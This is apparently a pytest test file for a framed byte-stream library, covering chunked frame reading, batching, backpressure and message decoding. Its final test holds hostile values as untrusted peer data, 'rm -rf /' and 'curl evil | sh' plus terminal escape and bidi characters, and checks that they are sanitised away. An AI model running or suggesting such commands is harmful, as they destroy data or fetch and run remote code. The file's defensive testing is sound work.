"""Frames over a byte stream: cut anywhere, written together, bounded."""

from __future__ import annotations

import asyncio
from collections.abc import Coroutine
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fallow.errors import FallowError, InternalError, PeerFault, RejectedError, fail
from fallow.sdk.framed import FramedStream, read_failure, read_message, write_item
from fallow.wire.codec import encode
from fallow.wire.frames import MAX_FRAME_BYTES, FrameKind, FrameReader, encode_frame
from fallow.wire.messages import CancelTask, Failure, LaneResult, Ok


class Scripted:
    """A byte stream that gives the pieces it was made with and keeps what it is sent. `gate` holds sends back."""

    def __init__(self, *pieces: bytes) -> None:
        self.pieces = list(pieces)
        self.sent: list[bytes] = []
        self.limits: list[int] = []
        self.gate = asyncio.Event()
        self.gate.set()
        self.broken = False
        self.finished = self.aborted = False

    async def send(self, data: bytes) -> None:
        await self.gate.wait()
        if self.broken:
            raise fail("E1801", "gone")
        self.sent.append(data)

    async def finish(self) -> None:
        self.finished = True

    async def read(self, limit: int) -> bytes:
        self.limits.append(limit)
        return self.pieces.pop(0) if self.pieces else b""

    def abort(self) -> None:
        self.aborted = True


def spawner(group: asyncio.TaskGroup) -> Any:
    def spawn(work: Coroutine[Any, Any, None]) -> asyncio.Task[None]:
        return group.create_task(work)

    return spawn


async def read_all(stream: FramedStream) -> list[tuple[FrameKind, bytes]]:
    found: list[tuple[FrameKind, bytes]] = []
    while (frame := await stream.next()) is not None:
        found.append(frame)
    return found


FRAMES = st.lists(st.tuples(st.sampled_from(list(FrameKind)), st.binary(max_size=300)), max_size=20)


@given(FRAMES, st.lists(st.integers(1, 400), max_size=40))
def test_frames_survive_any_cut(frames: list[tuple[FrameKind, bytes]], cuts: list[int]) -> None:
    whole = b"".join(encode_frame(kind, payload) for kind, payload in frames)
    pieces: list[bytes] = []
    for cut in cuts:
        pieces.append(whole[:cut])
        whole = whole[cut:]
    stream = FramedStream(Scripted(*[piece for piece in [*pieces, whole] if piece]), None)
    assert asyncio.run(read_all(stream)) == frames


@pytest.mark.parametrize(
    ("tail", "code"), [(b"\x00\x00\x00\x05\x01ab", "E1801"), (b"\x00", "E1801"), (b"\x00\x00\x00\x00\x63", "E1102")]
)
async def test_a_stream_that_ends_within_a_frame_or_talks_nonsense(tail: bytes, code: str) -> None:
    stream = FramedStream(Scripted(encode_frame(FrameKind.END) + tail), None)
    assert await stream.next() == (FrameKind.END, b"")
    with pytest.raises(FallowError) as caught:
        await stream.next()
    assert caught.value.code == code


async def test_a_frame_larger_than_agreed_is_refused_before_it_arrives() -> None:
    stream = FramedStream(Scripted(encode_frame(FrameKind.RAW, bytes(101))[:10]), None, max_bytes=100)
    with pytest.raises(FallowError) as caught:
        await stream.next()
    assert caught.value.code == "E1102"
    with pytest.raises(ValueError, match="at most"):
        await FramedStream(Scripted(), None).put(bytes(MAX_FRAME_BYTES + 1))


async def test_small_frames_go_out_together_and_in_order() -> None:
    scripted = Scripted()
    async with asyncio.TaskGroup() as group:
        stream = FramedStream(scripted, spawner(group))
        frames = [encode_frame(FrameKind.ITEM, b"%d" % number) for number in range(1000)]
        for frame in frames:
            await stream.put(frame)
        await stream.close_with(encode_frame(FrameKind.END))
    assert len(scripted.sent) < 5
    assert scripted.finished
    assert b"".join(scripted.sent) == b"".join(frames) + encode_frame(FrameKind.END)


async def test_many_raw_bytes_are_sent_from_where_they_lie() -> None:
    link, big = Scripted(), b"x" * (1 << 20)
    link.gate.clear()
    async with asyncio.TaskGroup() as group:
        framed = FramedStream(link, spawner(group))
        writer = group.create_task(put_all(framed, [Ok(), b"small", big, Ok(), big]))
        link.gate.set()
        await writer
        await framed.flush()
    assert sum(piece is big for piece in link.sent) == 2
    found = await read_all(FramedStream(Scripted(*link.sent), None))
    assert [(kind.name, len(payload)) for kind, payload in found if kind is FrameKind.RAW] == [
        ("RAW", 5), ("RAW", len(big)), ("RAW", len(big)),
    ]  # fmt: skip
    assert [kind.name for kind, _ in found] == ["ITEM", "RAW", "RAW", "ITEM", "RAW"]


async def put_all(framed: FramedStream, items: list[Ok | bytes]) -> None:
    for item in items:
        await framed.put_item(item, FrameKind.ITEM)


async def test_a_stream_that_takes_nothing_stops_the_writer() -> None:
    scripted = Scripted()
    scripted.gate.clear()
    put = 0
    async with asyncio.TaskGroup() as group:
        stream = FramedStream(scripted, spawner(group))

        async def pour() -> None:
            nonlocal put
            while put < 1000:
                await stream.put(bytes(1000))
                put += 1

        pouring = group.create_task(pour())
        for _ in range(50):
            await asyncio.sleep(0)
        assert 100 < put < 600
        assert not pouring.done()
        scripted.gate.set()
    assert sum(map(len, scripted.sent)) == 1_000_000


async def test_a_stream_that_breaks_tells_all_its_writers() -> None:
    scripted = Scripted()
    scripted.gate.clear()
    async with asyncio.TaskGroup() as group:
        stream = FramedStream(scripted, spawner(group))

        async def pour() -> str:
            with pytest.raises(FallowError) as caught:
                while True:
                    await stream.put(bytes(100_000))
            return caught.value.code

        writers = [group.create_task(pour()) for _ in range(3)]
        await asyncio.sleep(0)
        scripted.broken = True
        scripted.gate.set()
    assert {writer.result() for writer in writers} == {"E1801"}
    with pytest.raises(FallowError):
        await stream.flush()


async def test_reads_grow_with_what_comes() -> None:
    whole = encode_frame(FrameKind.RAW, bytes(1 << 18))
    scripted = Scripted(whole[: 1 << 16], whole[1 << 16 :], encode_frame(FrameKind.END))
    assert len(await read_all(FramedStream(scripted, None))) == 2
    assert scripted.limits == [1 << 16, 1 << 18, 1 << 18, 1 << 16]


def test_items_are_messages_or_bytes() -> None:
    reader = FrameReader()
    reader.feed(write_item(Ok(), FrameKind.INPUT) + write_item(b"raw", FrameKind.INPUT))
    assert list(reader) == [(FrameKind.INPUT, encode(Ok())), (FrameKind.RAW, b"raw")]


def test_any_declared_message_is_read_and_nothing_else() -> None:
    for message in (Ok(), CancelTask(bytes(32), bytes(32)), LaneResult(1, b"", 0)):
        assert read_message(encode(message)) == message
    for nonsense in (b"", b"\xc0", b"\x91\xa7Unknown", encode(Ok()) + b"\x00"):
        with pytest.raises(PeerFault):
            read_message(nonsense)


def test_a_strangers_failure_is_no_bug_of_ours_and_steers_no_terminal() -> None:
    bug = encode(Failure("E9001", "boom", "cause", "", "rm -rf /"))
    assert isinstance(read_failure(bug, trusted=True), InternalError)
    assert read_failure(bug, trusted=False).code == "E1806"
    evil = encode(Failure("E1301", "no\x1b[2Jmoney\u202e", "\x07", "here", "curl evil | sh"))
    error = read_failure(evil, trusted=False)
    assert isinstance(error, RejectedError)
    assert "\x1b" not in error.five_lines()
    assert "\u202e" not in error.five_lines()
    assert "curl" not in error.five_lines()  # what to type next is ours to say
    assert error.money == "here"
    assert read_failure(encode(Failure("x\x1b", "y")), trusted=False).code == "E1806"
    with pytest.raises(PeerFault):
        read_failure(b"\x90", trusted=False)
